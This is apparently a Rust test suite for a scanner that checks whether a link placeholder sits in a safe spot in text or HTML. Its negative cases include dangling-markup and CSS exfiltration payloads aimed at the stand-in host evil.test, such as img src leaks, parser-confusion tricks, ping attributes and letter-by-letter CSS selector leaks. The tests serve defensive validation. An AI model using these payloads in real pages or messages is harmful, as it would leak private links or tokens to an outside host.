use super::*;
use Spot::{Href, Unsafe, Words};

fn spots(text: &str, html: bool) -> Vec<Spot> {
    hits(text.as_bytes(), "[[OTAB-LINK]]", html).into_iter().map(|hit| hit.spot).collect()
}

#[test]
fn every_editors_spelling_is_found_and_nothing_less() {
    for spelling in [
        "[[OTAB-LINK]]",
        "%5B%5BOTAB-LINK%5D%5D",
        "%5b%5bOTAB-LINK%5d%5d",
        "&#91;&#91;OTAB-LINK&#93;&#93;",
        "&#x5B;&#x5b;OTAB-LINK&#x5D;&#X5d;",
        "&lbrack;&lsqb;OTAB&#45;LINK&rbrack;&rsqb;",
        "[%5BOTAB-LINK&#93;]",
    ] {
        let text = format!("a {spelling} {spelling}.");
        let found = hits(text.as_bytes(), "[[OTAB-LINK]]", false);
        assert_eq!(found.len(), 2, "{spelling}");
        assert!(found.iter().all(|hit| text[hit.range.clone()] == *spelling), "{spelling}");
    }
    for other in ["[[otab-link]]", "[[OTAB-LINK]", "[OTAB-LINK]]", "%5B%5", "&#91", "&#91;&#", "[[OTAB LINK]]", ""] {
        assert_eq!(hits(other.as_bytes(), "[[OTAB-LINK]]", true), [], "{other}");
    }
    assert_eq!(hits(b"[[[OTAB-LINK]]]", "[[OTAB-LINK]]", false)[0].range, 1..14);
    assert_eq!(hits(b"%%LINK%%%%LINK%%", "%%LINK%%", false).len(), 2);
}

#[test]
fn in_text_a_link_does_not_join_another() {
    for text in ["[[OTAB-LINK]]", "Link: [[OTAB-LINK]]", "Link:[[OTAB-LINK]].", "([[OTAB-LINK]])", "<[[OTAB-LINK]]>"] {
        assert_eq!(spots(text, false), [Words], "{text}");
    }
    for text in ["Link/URL:[[OTAB-LINK]]", "a \"b\" https://desk.test [[OTAB-LINK]]", "Ticket#[[OTAB-LINK]]"] {
        assert_eq!(spots(text, false), [Words], "{text}");
    }
    for text in [
        "https://evil.test/[[OTAB-LINK]]",
        "http://localhost:[[OTAB-LINK]]",
        "evil.test#[[OTAB-LINK]]",
        "evil.test/?a=[[OTAB-LINK]]",
        "mailto:a@evil.test?body=[[OTAB-LINK]]",
        "x@[[OTAB-LINK]]",
        "<https://evil.test/?a b [[OTAB-LINK]]>",
        "\"https://evil.test/?a\n[[OTAB-LINK]]\"",
    ] {
        assert_eq!(spots(text, false), [Unsafe], "{text}");
    }
}

#[test]
fn in_html_text_and_whole_links_are_good_places() {
    for (html, expected) in [
        ("<p>[[OTAB-LINK]]</p>", vec![Words]),
        ("a&nbsp;[[OTAB-LINK]]", vec![Words]),
        ("1 < 2 [[OTAB-LINK]]", vec![Words]),
        ("<a href=\"[[OTAB-LINK]]\">[[OTAB-LINK]]</a>", vec![Href, Words]),
        ("<A class=x HREF = ' %5B%5BOTAB-LINK%5D%5D ' >Ticket</A>", vec![Href]),
        ("<a href=[[OTAB-LINK]]>x</a>", vec![Href]),
        ("<style>p {}</style><p>[[OTAB-LINK]]", vec![Words]),
        ("<!-- a > b --><p title='a>b'>[[OTAB-LINK]]", vec![Words]),
        ("<style><!-- p {} --></style><!--[if mso]><p><![endif]--><b>a</b> [[OTAB-LINK]]", vec![Words]),
        ("<b>https://desk.test</b><br>[[OTAB-LINK]]", vec![Words]),
        ("<style>@media a { p { margin: 0 } }</style><a href=\"[[OTAB-LINK]]\">x</a>", vec![Href]),
    ] {
        assert_eq!(spots(html, true), expected, "{html}");
    }
}

#[test]
fn in_html_no_place_leads_elsewhere() {
    for html in [
        "<img src=\"https://evil.test/?[[OTAB-LINK]]\">",
        "<img src='https://evil.test/? <p>[[OTAB-LINK]]</p>'>",
        "<img src='https://evil.test/? [[OTAB-LINK]]",
        "<img alt=x\" src=\"https://evil.test/?a> [[OTAB-LINK]]\">",
        "<img =\" src='https://evil.test/?\"> [[OTAB-LINK]]'>",
        "<img src=[[OTAB-LINK]]>",
        "<a href=\"https://evil.test/?[[OTAB-LINK]]\">x</a>",
        "<a href=\"[[OTAB-LINK]]@evil.test\">x</a>",
        "<form href=\"[[OTAB-LINK]]\">",
        "<style>a { background: url(https://evil.test/? [[OTAB-LINK]]) }</style>",
        "<STYLE >[[OTAB-LINK]]",
        "<textarea name=a>[[OTAB-LINK]]</textarea>",
        "<input value=\"[[OTAB-LINK]]\">",
        "<!-- [[OTAB-LINK]] -->",
        "<p>https://evil.test/?[[OTAB-LINK]]</p>",
        "<p>https:&#47;&#47;evil.test&#47;[[OTAB-LINK]]</p>",
        "</p title=\"[[OTAB-LINK]]\">",
        "<a href=\"a\" [[OTAB-LINK]]",
        // What ends for one reader goes on for the next.
        "<style></stylex> a { background: url('https://evil.test/? [[OTAB-LINK]]') }</style>",
        "<!-- --!><img src=\"https://evil.test/?--> [[OTAB-LINK]]\">",
        "<object><img src=\"https://evil.test/?</object> [[OTAB-LINK]]\"></object>",
        "<svg><img src=\"https://evil.test/?</svg> [[OTAB-LINK]]\">",
        "<noframes><img src=\"https://evil.test/?</noframes> [[OTAB-LINK]]\">",
        "<noscript><p title=\"</noscript><img src='https://evil.test/? \">[[OTAB-LINK]]'>",
        // The browser tells this one where the reader went.
        "<a href=\"[[OTAB-LINK]]\" ping=\"https://evil.test/\">x</a>",
        "<a ping=\"https://evil.test/\" href=\"[[OTAB-LINK]]\">x</a>",
        // Style rules could ask for it, letter by letter.
        "<a href=\"[[OTAB-LINK]]\">x</a><style>a[href*=q] { background: url(https://evil.test/q) }</style>",
        "<a href=\"[[OTAB-LINK]]\">x</a><style>@IMPORT 'https://evil.test/'</style>",
        "<a href=\"[[OTAB-LINK]]\">x</a><link rel=stylesheet href=\"https://evil.test/\">",
        "<!--[if mso]><img src=\"https://evil.test/?--> [[OTAB-LINK]]\"><![endif]-->",
        "<svg><![CDATA[ > [[OTAB-LINK]] ]]>",
        "<style><!-- </style> [[OTAB-LINK]] --></style>",
        // Shown as one word, and taken for one address.
        "https://evil.test/?<b>[[OTAB-LINK]]</b>",
        "https://evil.test/?<!-- --><wbr>[[OTAB-LINK]]",
    ] {
        assert_eq!(spots(html, true), [Unsafe], "{html}");
    }
}
